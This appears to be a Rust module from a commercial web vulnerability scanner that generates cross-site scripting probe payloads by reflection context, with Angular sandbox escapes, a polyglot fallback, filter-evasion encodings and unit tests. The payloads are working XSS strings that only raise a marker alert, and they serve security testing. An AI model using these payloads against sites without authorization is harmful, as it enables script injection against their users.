// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! XSS payload generation
//!
//! Rule/lookup component: given the detected reflection context, the
//! characters that survived filtering and an optional front-end
//! technology hint, propose a payload that should execute there. Falls
//! back to a multi-context polyglot when no rule fits.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use crate::context::ReflectionContext;

/// Detected front-end technology, for payload specialization
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TechHint {
    /// Framework/library name, lowercase ("angular", "jquery", ...)
    pub name: String,
    /// Version string when fingerprinted
    pub version: Option<String>,
}

/// A proposed payload
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PayloadSuggestion {
    /// The payload string to inject
    pub payload: String,
    /// What the payload does
    pub description: &'static str,
    /// Context it targets
    pub context: ReflectionContext,
}

/// Payload encoding helpers
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PayloadEncoding {
    None,
    Url,
    HtmlEntity,
    Base64,
}

/// Context-keyed payload generator
pub struct PayloadGenerator {
    marker: String,
}

impl Default for PayloadGenerator {
    fn default() -> Self {
        Self::new()
    }
}

impl PayloadGenerator {
    pub fn new() -> Self {
        Self {
            marker: "SEITTI".to_string(),
        }
    }

    /// Create with custom marker
    pub fn with_marker(marker: impl Into<String>) -> Self {
        Self {
            marker: marker.into(),
        }
    }

    pub fn marker(&self) -> &str {
        &self.marker
    }

    /// Propose a payload for a context, honoring the surviving-character
    /// set. An empty set means "unknown", treated as unrestricted.
    pub fn suggest(
        &self,
        context: ReflectionContext,
        allowed: &BTreeSet<char>,
        tech: Option<&TechHint>,
    ) -> PayloadSuggestion {
        let ok = |needed: &str| allowed.is_empty() || needed.chars().all(|c| allowed.contains(&c));
        let probe = format!("alert('{}')", self.marker);

        let suggestion = match context {
            ReflectionContext::Html | ReflectionContext::Svg | ReflectionContext::TagName => {
                if ok("<>") {
                    Some((
                        format!("<img src=x onerror={}>", probe),
                        "IMG tag onerror handler",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::Rcdata => {
                if ok("<>/") {
                    Some((
                        format!("</textarea></title><img src=x onerror={}>", probe),
                        "RCDATA breakout",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::Attribute => {
                if ok("\"<>") {
                    Some((
                        format!("\"><img src=x onerror={}>", probe),
                        "Attribute breakout and tag injection",
                    ))
                } else if ok("\"=") {
                    Some((
                        format!("\" onmouseover={} x=\"", probe),
                        "Attribute breakout event handler",
                    ))
                } else if ok("'=") {
                    Some((
                        format!("' onmouseover={} x='", probe),
                        "Attribute breakout event handler (single quote)",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::JsSingleQuote => {
                if ok("';()") {
                    Some((format!("';{};//", probe), "JS single-quote breakout"))
                } else if ok("<>/") {
                    Some((
                        format!("</script><img src=x onerror={}>", probe),
                        "Script tag breakout",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::JsDoubleQuote => {
                if ok("\";()") {
                    Some((format!("\";{};//", probe), "JS double-quote breakout"))
                } else if ok("<>/") {
                    Some((
                        format!("</script><img src=x onerror={}>", probe),
                        "Script tag breakout",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::JsRaw => {
                if ok("()") {
                    Some((probe.clone(), "Direct JavaScript execution"))
                } else {
                    None
                }
            }
            ReflectionContext::TemplateLiteral => {
                if ok("${}()") {
                    Some((format!("${{{}}}", probe), "Template literal expression"))
                } else if ok("`;()") {
                    Some((format!("`;{};//", probe), "Template literal breakout"))
                } else {
                    None
                }
            }
            ReflectionContext::Css => {
                if ok("<>/") {
                    Some((
                        format!("</style><img src=x onerror={}>", probe),
                        "Style block breakout",
                    ))
                } else if ok("()") {
                    Some((format!("expression({})", probe), "Legacy CSS expression"))
                } else {
                    None
                }
            }
            ReflectionContext::Url => {
                if ok(":()") {
                    Some((format!("javascript:{}", probe), "javascript: URL scheme"))
                } else {
                    None
                }
            }
            ReflectionContext::DataUri => {
                if ok(":,<>") {
                    Some((
                        format!("data:text/html,<script>{}</script>", probe),
                        "data: URL with HTML payload",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::MetaRefresh => {
                if ok(";=:()") {
                    Some((
                        format!("0;url=javascript:{}", probe),
                        "Meta refresh javascript: redirect",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::Comment => {
                if ok("<>-") {
                    Some((
                        format!("--><img src=x onerror={}>", probe),
                        "Comment breakout",
                    ))
                } else {
                    None
                }
            }
            ReflectionContext::Angular => Some(self.angular_payload(tech)),
            ReflectionContext::Unknown => None,
        };

        match suggestion {
            Some((payload, description)) => PayloadSuggestion {
                payload,
                description,
                context,
            },
            None => self.polyglot(),
        }
    }

    /// Angular CSTI payload, by fingerprinted version when available.
    /// Sandboxed 1.x releases need a sandbox escape; 1.6+ removed the
    /// sandbox so the plain constructor chain works.
    fn angular_payload(&self, tech: Option<&TechHint>) -> (String, &'static str) {
        let sandboxed = tech
            .and_then(|t| t.version.as_deref())
            .map(|v| {
                v.starts_with("1.2") || v.starts_with("1.3") || v.starts_with("1.4")
                    || v.starts_with("1.5")
            })
            .unwrap_or(false);

        if sandboxed {
            (
                format!(
                    "{{{{x = {{'y':''.constructor.prototype}}; x['y'].charAt=[].join; \
                     $eval('x=alert(\"{}\")');}}}}",
                    self.marker
                ),
                "Angular 1.2-1.5 sandbox escape",
            )
        } else {
            (
                format!(
                    "{{{{constructor.constructor('alert(\"{}\")')()}}}}",
                    self.marker
                ),
                "Angular constructor chain",
            )
        }
    }

    /// Multi-context polyglot fallback
    pub fn polyglot(&self) -> PayloadSuggestion {
        PayloadSuggestion {
            payload: format!(
                "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcLiCk=alert('{}') )//\
                 %0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\
                 <sVg/<sVg/oNloAd=alert('{}')//>",
                self.marker, self.marker
            ),
            description: "Multi-context polyglot",
            context: ReflectionContext::Unknown,
        }
    }

    /// Encode a payload for transport or filter evasion
    pub fn encode_payload(&self, payload: &str, encoding: PayloadEncoding) -> String {
        match encoding {
            PayloadEncoding::None => payload.to_string(),
            PayloadEncoding::Url => payload
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{:02X}", b)
                    }
                })
                .collect(),
            PayloadEncoding::HtmlEntity => payload
                .chars()
                .map(|c| format!("&#{};", c as u32))
                .collect(),
            PayloadEncoding::Base64 => {
                use base64::Engine;
                base64::engine::general_purpose::STANDARD.encode(payload)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn chars(s: &str) -> BTreeSet<char> {
        s.chars().collect()
    }

    #[test]
    fn test_html_context_with_brackets() {
        let gen = PayloadGenerator::new();
        let s = gen.suggest(ReflectionContext::Html, &chars("<>()='"), None);
        assert!(s.payload.starts_with('<'));
        assert_eq!(s.context, ReflectionContext::Html);
    }

    #[test]
    fn test_html_context_without_brackets_falls_back() {
        let gen = PayloadGenerator::new();
        let s = gen.suggest(ReflectionContext::Html, &chars("'\"()"), None);
        assert_eq!(s.context, ReflectionContext::Unknown);
    }

    #[test]
    fn test_js_single_quote_breakout() {
        let gen = PayloadGenerator::new();
        let s = gen.suggest(ReflectionContext::JsSingleQuote, &chars("';()"), None);
        assert!(s.payload.starts_with("';"));
    }

    #[test]
    fn test_attribute_prefers_tag_injection() {
        let gen = PayloadGenerator::new();
        let s = gen.suggest(ReflectionContext::Attribute, &chars("\"<>()="), None);
        assert!(s.payload.starts_with("\"><"));

        let s2 = gen.suggest(ReflectionContext::Attribute, &chars("\"=()"), None);
        assert!(s2.payload.contains("onmouseover"));
    }

    #[test]
    fn test_empty_allowed_set_is_unrestricted() {
        let gen = PayloadGenerator::new();
        let s = gen.suggest(ReflectionContext::Url, &BTreeSet::new(), None);
        assert!(s.payload.starts_with("javascript:"));
    }

    #[test]
    fn test_angular_version_table() {
        let gen = PayloadGenerator::new();
        let old = TechHint {
            name: "angular".to_string(),
            version: Some("1.4.8".to_string()),
        };
        let s = gen.suggest(ReflectionContext::Angular, &BTreeSet::new(), Some(&old));
        assert!(s.description.contains("sandbox"));

        let new = TechHint {
            name: "angular".to_string(),
            version: Some("1.6.0".to_string()),
        };
        let s2 = gen.suggest(ReflectionContext::Angular, &BTreeSet::new(), Some(&new));
        assert!(s2.payload.contains("constructor.constructor"));
    }

    #[test]
    fn test_marker_in_payload() {
        let gen = PayloadGenerator::with_marker("XYZPROBE");
        let s = gen.suggest(ReflectionContext::JsRaw, &chars("()"), None);
        assert!(s.payload.contains("XYZPROBE"));
    }

    #[test]
    fn test_encoding() {
        let gen = PayloadGenerator::new();
        assert!(gen
            .encode_payload("<script>", PayloadEncoding::HtmlEntity)
            .contains("&#"));
        assert!(gen
            .encode_payload("<x>", PayloadEncoding::Url)
            .contains("%3C"));
        assert_eq!(
            gen.encode_payload("abc", PayloadEncoding::None),
            "abc"
        );
    }
}
